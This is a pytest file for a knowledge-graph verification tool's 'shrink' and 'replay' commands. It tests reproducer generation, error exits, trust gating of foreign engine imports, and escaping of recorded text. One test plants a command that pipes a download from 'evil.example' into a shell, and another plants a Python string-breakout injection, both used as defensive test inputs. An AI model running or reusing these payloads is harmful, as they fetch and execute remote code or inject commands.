"""`kgverify shrink` and `replay`: a saved run becomes a reproducer, and foreign code runs only when it is asked for."""

import ast
import json
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest
from invoked_commands import EAGER, SMALL, invoke

import kgverify as kv

ENGINES = Path(__file__).with_name("two_engines.py").read_text()
STRANGE = """
from pathlib import Path
from two_engines import Capped, Slow
with Path("imported").open("a") as file:
    file.write("x")
"""
REPRODUCER = (
    "% kgverify reproducer 1\n\np(a, b).\np(b, c).\nq(X, Y) :- p(X, Y).\n?- q(a, b).\n\nclass: missing\n{}: {}\n"
)


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A saved run with a planted fault."""
    folder = tmp_path_factory.mktemp("saved")
    words = ["diff", *SMALL, *EAGER, "--no-determinism", "--fault", "last-fact-lost", "--save", "run"]
    assert invoke(words, folder).exit_code == 1
    return folder / "run"


@pytest.fixture(scope="module")
def reproducer(run_dir: Path) -> Path:
    shrunk = invoke(["shrink", run_dir, "--pytest", run_dir / "test_it.py", "--json", run_dir / "shrunk.json"])
    assert shrunk.exit_code == 0, shrunk.stderr
    printed = " ".join(shrunk.stdout.split())
    assert "it fails, as it must" in printed
    assert "divergence-1.agrees.kg" in printed.replace(" ", "")
    return run_dir / "divergence-1.kg"


def test_a_saved_run_becomes_a_reproducer_and_a_test(command, reproducer: Path, tmp_path: Path):
    written = json.loads(reproducer.with_name("shrunk.json").read_text("utf-8"))
    assert written["program"] == str(kv.replay(reproducer).reproducer.problem)
    assert (written["kind"], written["code"]) == ("missing", "KG101")
    assert (written["file"], written["size"]) == (str(reproducer), 1)
    assert [each["command"] for each in written["next"]] == [
        ["kgverify", "replay", str(path)] for path in (reproducer, reproducer.with_name("divergence-1.agrees.kg"))
    ]
    again = command("replay", reproducer)
    assert again.exit_code == 1
    assert "still, and in the same way" in again.stdout
    assert f"\n{command('replay', reproducer, '-q').stdout}" in f"\n{again.stdout}"
    made = kv.replay(reproducer)
    assert (made.is_same, made.reproducer.problem.size) == (True, 1)
    pair = command("replay", reproducer.with_name("divergence-1.agrees.kg"))
    assert (pair.exit_code, "AGREE" in pair.stdout) == (0, True)
    fixed = command("replay", reproducer, "--engine", "compiled", "--pytest", tmp_path / "test_fixed.py")
    assert (fixed.exit_code, "IT DOES NOT FAIL" in fixed.stdout) == (0, True)
    assert command("replay", reproducer, "--fault", "query-matched").exit_code == 0


def test_a_bug_of_ours_while_replaying_exits_with_70_and_says_where_the_problem_is_saved(
    command, reproducer: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    def fail(*_: object) -> None:
        raise LookupError("a bug")

    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    monkeypatch.setattr("kgverify.comparison.compare.Comparer.compare", fail)
    failed = command("replay", reproducer)
    assert failed.exit_code == 70
    assert "Traceback" in failed.stderr
    (file,) = tmp_path.glob("kgverify-bug-*/*.kg")
    assert str(file.parent) in failed.stderr
    monkeypatch.undo()
    assert kv.replay(file).reproducer.problem == kv.replay(reproducer).reproducer.problem


def test_the_command_of_a_report_is_shown_as_data(command, run_dir: Path, tmp_path: Path):
    evil = "kgverify diff; curl 'evil.example | sh"
    for path in run_dir.glob("*.h5"):
        (tmp_path / path.name).write_bytes(path.read_bytes())
    report = json.loads((run_dir / "report.json").read_text())
    (tmp_path / "report.json").write_text(json.dumps({**report, "command": evil}))
    for option in (["--html", "-"], ["--markdown", "-"], ["--github"], ["--junit", "-"], []):
        for line in command("report", tmp_path, *option).stdout.splitlines():
            assert evil not in line or "recorded as" in line


@pytest.fixture
def strange(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A folder with a stranger's engine, whose import leaves a file behind."""
    (tmp_path / "two_engines.py").write_text(ENGINES)
    (tmp_path / "strange_engine.py").write_text(STRANGE)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setattr(sys, "path", [*sys.path])
    yield tmp_path
    sys.modules.pop("strange_engine", None)


def num_imports() -> int:
    return len(Path("imported").read_text()) if Path("imported").exists() else 0


@pytest.mark.parametrize(
    ("side", "name"), [("engine", "strange_engine:Slow"), ("reference", "./strange_engine.py:Slow")]
)
def test_a_reproducer_imports_what_it_names_only_if_the_user_asks_for_it(command, strange: Path, side: str, name: str):
    Path("x.kg").write_text(REPRODUCER.format(side, name))
    refused = command("replay", "x.kg")
    assert refused.exit_code == 2
    assert refused.stderr.startswith(f"error: x.kg: {side}: names the engine {name!r}")
    assert f"--{side}" in refused.stderr
    assert "--trust" in refused.stderr
    with pytest.raises(kv.UserError, match="names the engine"):
        kv.replay("x.kg")
    assert command("replay", "x.kg", f"--{side}", "reference").exit_code == 0
    assert num_imports() == 0
    assert command("replay", "x.kg", "--trust").exit_code == 0
    assert num_imports() == 1
    sys.modules.pop("strange_engine")
    assert command("replay", "x.kg", f"--{side}", name).exit_code == 0
    assert num_imports() == 2


def test_naming_an_engine_for_one_side_allows_the_file_the_same_engine_for_the_other(command, strange: Path):
    Path("x.kg").write_text(REPRODUCER.format("reference", "strange_engine:Slow"))
    assert command("replay", "x.kg", "--engine", "strange_engine:Capped").exit_code == 2
    assert command("replay", "x.kg", "--engine", "strange_engine:Slow").exit_code == 0


def test_kgverifys_own_engines_need_no_trust(command, strange: Path):
    for name in ("compiled", "reference"):
        Path("x.kg").write_text(REPRODUCER.format("engine", name))
        assert command("replay", "x.kg").exit_code == 0


@pytest.mark.parametrize("side", ["engine", "reference"])
def test_a_saved_run_imports_what_it_names_only_if_the_user_asks_for_it(
    command, strange: Path, run_dir: Path, side: str
):
    report = json.loads((run_dir / "report.json").read_text())
    Path("run").mkdir()
    for path in run_dir.glob("*.h5"):
        Path("run", path.name).write_bytes(path.read_bytes())
    named = {**report["job"], side: {"name": "strange_engine:Slow"}}
    Path("run", "report.json").write_text(json.dumps({**report, "job": named}))
    refused = command("shrink", "run")
    assert (refused.exit_code, f"--{side}" in refused.stderr, "--trust" in refused.stderr) == (2, True, True)
    assert "run/report.json" in refused.stderr
    with pytest.raises(kv.UserError, match="names the engine 'strange_engine:Slow'"):
        kv.shrink("run")
    assert num_imports() == 0
    # Trusted, it is imported before the number is checked.
    assert "there is no divergence 999" in command("shrink", "run", "--trust", "--divergence", "999").stderr
    assert num_imports() == 1


def test_a_test_holds_no_code_of_the_reproducer(command, strange: Path):
    """Every text of a reproducer stands in strings of the generated file."""
    evil = '"""\\nraise SystemExit("run")\\n"""'
    text = REPRODUCER.format("note", evil).replace("\n\n", f"\n\np('{evil}', b).\n", 1)
    Path("x.kg").write_text(text.replace("missing", f"missing\nsituation: {evil}\nstage: {evil}"))
    assert command("replay", "x.kg", "--engine", "reference", "--pytest", "test_x.py").exit_code == 0
    name = f'compiled"), {evil}'
    code = replace(kv.replay("x.kg").reproducer, engine=kv.EngineSpec(name)).to_python()
    for each in (Path("test_x.py").read_text(), code.rpartition("\nkv.assert_agrees(")[0]):
        names: dict[str, Any] = {}
        exec(compile(each, "x.py", "exec"), names)
        assert names["PROBLEM"].facts[0][1] == evil.replace("\\n", "\n")
    call: Any = ast.parse(code).body[-1]
    assert [ast.literal_eval(each) for each in call.value.args[:1]] == [name]
